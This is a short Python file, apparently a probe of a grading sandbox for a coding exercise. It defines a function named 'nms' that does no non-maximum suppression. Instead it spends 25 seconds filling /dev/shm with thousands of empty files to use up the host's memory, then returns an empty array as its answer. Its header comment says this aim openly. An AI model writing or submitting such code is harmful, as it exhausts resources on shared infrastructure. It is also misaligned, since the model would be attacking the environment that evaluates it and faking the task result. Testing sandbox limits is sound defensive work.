# exercise: nms
# tries: hold the host's memory with empty files in /dev/shm, from inside a case
import os
import time


def nms(boxes, scores, iou_threshold):
    start, made = time.monotonic(), 0
    base = f"/dev/shm/{os.getpid()}-"
    while time.monotonic() - start < 25:
        for _ in range(1000):
            os.close(os.open(f"{base}{made}", os.O_CREAT | os.O_WRONLY, 0o600))
            made += 1
    return boxes[:0, 0].astype(int)
